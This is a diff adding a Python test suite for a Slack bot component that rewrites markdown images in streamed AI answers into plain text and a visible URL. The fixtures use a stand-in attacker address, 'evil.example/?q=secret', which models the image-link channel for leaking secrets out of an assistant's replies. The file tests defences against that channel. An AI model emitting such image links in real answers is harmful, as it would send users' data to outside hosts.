@@ -1,0 +1,95 @@
+"""A picture in an answer becomes words and an address, however the answer comes in; all else stays as it is."""
+
+from __future__ import annotations
+
+import re
+import time
+from itertools import pairwise
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from bot.slack.write.pictures import CODE_CHARS_MAX, PICTURE_CHARS_MAX, Pictures
+
+EVIL = "https://evil.example/?q=secret"
+PICTURES = {
+    f"![a chart]({EVIL})": f"a chart ({EVIL})",
+    f"before ![]({EVIL}) after": f"before picture ({EVIL}) after",
+    f'![a chart]({EVIL} "title")': f"a chart ({EVIL})",
+    f"![a chart](<{EVIL}>)": f"a chart ({EVIL})",
+    f"![a\nchart](\n{EVIL} )": f"a chart ({EVIL})",
+    f"[![badge]({EVIL})](https://a.example)": f"[badge ({EVIL})](https://a.example)",
+    f"![a [b] c]({EVIL}(1))": f"a [b] c ({EVIL}(1))",
+    f"` ![a chart]({EVIL})": f"` a chart ({EVIL})",
+    f"``code` ![a chart]({EVIL})\n": f"``code` a chart ({EVIL})\n",
+    f"a ` b\n![a chart]({EVIL}) `": f"a ` b\na chart ({EVIL}) `",
+    f"```\ncode\n```\n![a chart]({EVIL})": f"```\ncode\n```\na chart ({EVIL})",
+    f"    ```\n![a chart]({EVIL})": f"    ```\na chart ({EVIL})",
+    f"``` a`b\n![a chart]({EVIL})": f"``` a`b\na chart ({EVIL})",
+    f"![a chart][1]\n\n[1]: {EVIL}": f"!\\[a chart][1]\n\n[1]: {EVIL}",
+    "Wow![1] Yes": "Wow!\\[1] Yes",
+    f"![never ended]({EVIL}": f"!\\[never ended]({EVIL}",
+    f"\\\\![a chart]({EVIL})": f"\\\\a chart ({EVIL})",
+}
+UNCHANGED = [
+    "No picture! [a link](https://a.example), 5! = 120, !important, ![",
+    f"`![a chart]({EVIL})`",
+    f"``a ` ![a chart]({EVIL})``",
+    f"```md\n![a chart]({EVIL})\n```",
+    f"~~~\n![a chart]({EVIL})\n```\n![a chart]({EVIL})\n~~~~\n",
+    f"- ```\n  ![a chart]({EVIL})\n  ```\n",
+    f"\\![a chart]({EVIL})",
+    "a\\\nb\\",
+]
+UNCHANGED[0] = UNCHANGED[0].removesuffix(", ![")
+
+
+def shown(text: str, *cuts: int) -> str:
+    pictures = Pictures()
+    places = [0, *sorted(cut % (len(text) + 1) for cut in cuts), len(text)]
+    pieces = [text[start:end] for start, end in pairwise(places)]
+    return "".join([*map(pictures.feed, pieces), pictures.close()])
+
+
+@pytest.mark.parametrize("text", PICTURES)
+def test_a_picture_is_words_and_an_address(text: str) -> None:
+    assert shown(text) == PICTURES[text]
+    assert shown(text, *range(len(text))) == PICTURES[text]
+
+
+@pytest.mark.parametrize("text", UNCHANGED)
+def test_all_else_stays(text: str) -> None:
+    assert shown(text) == text
+    assert shown(text, *range(len(text))) == text
+
+
+@given(st.text('![]()`~\\ \n<>"ab>-', max_size=60), st.lists(st.integers(0, 100), max_size=8))
+def test_how_the_answer_comes_in_makes_no_difference(text: str, cuts: list[int]) -> None:
+    assert shown(text, *cuts) == shown(text)
+
+
+@given(st.text("![]() a", max_size=60))
+def test_no_picture_is_left(text: str) -> None:
+    assert not re.search(r"(?<!\\)!\[[^\]]*\]\(", shown(text))
+
+
+@pytest.mark.parametrize("unit", ["![", "`", "![a](", "`a``b", "\\", "!", "```\n", "![a](b", "[", "![[]"])
+def test_work_grows_with_the_text(unit: str) -> None:
+    def seconds(chars: int) -> float:
+        text = (unit * chars)[:chars]
+        started = time.process_time()
+        shown(text, *range(0, chars, 7))
+        return time.process_time() - started
+
+    seconds(1_000)
+    assert seconds(40_000) < 30 * max(seconds(4_000), 0.02)
+
+
+def test_what_may_be_a_picture_does_not_wait_for_long() -> None:
+    for text, waits in (
+        (f"![{'a' * PICTURE_CHARS_MAX}", PICTURE_CHARS_MAX),
+        (f"`{'a' * CODE_CHARS_MAX}", CODE_CHARS_MAX),
+    ):
+        assert Pictures().feed(text[: waits // 2]) == ""
+        assert len(Pictures().feed(text)) >= len(text) - 2
